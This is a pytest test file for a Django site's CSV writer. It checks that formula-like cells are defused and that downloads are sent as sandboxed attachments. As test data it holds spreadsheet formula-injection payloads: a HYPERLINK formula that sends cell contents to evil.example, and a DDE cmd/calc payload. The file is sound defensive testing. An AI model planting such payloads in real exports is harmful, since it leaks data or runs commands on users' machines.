"""lib.csv: the one CSV writer — formulas defused, numbers kept, download headers on every CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils.translation import gettext_lazy

from dcrnet.lib.csv import csv_response, defuse

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "'-3"),  # text that looks like a number is still text a formula could hide in
        (gettext_lazy("=lazy"), "'=lazy"),
        ("a=b", "a=b"),
        ("", ""),
        ("Abrigado", "Abrigado"),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(cell, written):
    assert defuse(cell) == written


@pytest.mark.parametrize("number", [-3, 0, 12, -0.5, 49.61, Decimal("-123.1400")])
def test_numbers_stay_numbers_even_when_negative(number):
    assert defuse(number) is number


def test_none_stays_an_empty_cell():
    assert defuse(None) is None


def read(response) -> list[list[str]]:
    if response.streaming:
        text = b"".join(response.streaming_content).decode()
    else:
        text = response.content.decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("streaming", [False, True])
def test_csv_response_writes_defused_rows_as_a_sandboxed_attachment(streaming):
    response = csv_response(
        "x.csv",
        ["name", "value"],
        [[EVIL, -3], ["ok", Decimal("-1.5")], [None, dt.date(2025, 3, 1)]],
        preamble=["# licence"],
        streaming=streaming,
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert read(response) == [
        ["# licence"],
        ["name", "value"],
        ["'" + EVIL, "-3"],
        ["ok", "-1.5"],
        ["", "2025-03-01"],
    ]


# --- every CSV download of the site ---------------------------------------------------------


def csv_url_names() -> set[str]:
    """Every URL pattern of the site whose route ends in .csv, as namespace:name."""
    names = set()

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
                names.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)

    walk(get_resolver().url_patterns, None)
    return names


@pytest.fixture
def evil_site(facility, reporter, monkeypatch):
    """A facility, an indicator and survey rows whose text starts like a formula."""
    from dcrnet.directory.models import Facility
    from dcrnet.monitoring import services, views
    from dcrnet.monitoring.models import Indicator

    Facility.objects.filter(pk=facility.pk).update(name=EVIL)
    facility.refresh_from_db()
    services.save_month(facility, dt.date(2025, 1, 1), {"visits": 300})
    Indicator.objects.filter(code="visits").update(title=EVIL)
    survey = {"csv": [[2025, "visitors_per_day", EVIL, -3, 7, 9, 78]]}
    monkeypatch.setattr(views, "survey_results", lambda: survey)
    return facility


CSV_DOWNLOADS = {
    "directory:facilities_csv": "/data/facilities.csv",
    "monitoring:dictionary_csv": "/data/dictionary.csv",
    "monitoring:monthly_csv": "/data/monthly.csv",
    "monitoring:survey_csv": "/data/survey.csv",
    "monitoring:upload_template": "/data/report/lu-abrigado/template.csv",
}


# Downloads that need their app's own people and rows (an initiative's endorsers, a session's
# participants for its organisers): their formula and header tests are in those files.
CSV_TESTED_IN_THEIR_APP = {
    "advocacy:endorsers_csv": "dcrnet/advocacy/tests/test_downloads.py",
    "trainings:participants_csv": "dcrnet/trainings/tests/test_csv.py",
    "alerts:report_template_reports": "dcrnet/alerts/tests/test_reporting_csv.py",
    "alerts:report_template_pulses": "dcrnet/alerts/tests/test_reporting_csv.py",
    "impact:data_csv": "dcrnet/impact/tests/test_pages.py",
}


def test_the_table_lists_every_csv_url_of_the_site():
    assert csv_url_names() == set(CSV_DOWNLOADS) | set(CSV_TESTED_IN_THEIR_APP)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(CSV_DOWNLOADS))
def test_every_csv_download_is_a_sandboxed_attachment_with_formulas_defused(
    client, evil_site, reporter, name
):
    from django.urls import reverse

    url = CSV_DOWNLOADS[name]
    assert reverse(name, args=["lu-abrigado"] if "<" in url or "report" in url else []) == url
    client.force_login(reporter)
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"] == "text/csv; charset=utf-8", url
    assert response["Content-Disposition"].startswith('attachment; filename="'), url
    assert response["X-Content-Type-Options"] == "nosniff", url
    assert response["Content-Security-Policy"].startswith("sandbox"), url
    cells = [cell for row in read(response) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (url, cells)
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]
    if name != "monitoring:upload_template":  # the template holds indicator codes only
        assert "'" + EVIL in cells, url
    if name == "monitoring:survey_csv":
        assert "-3" in cells  # a real negative number is written as a number
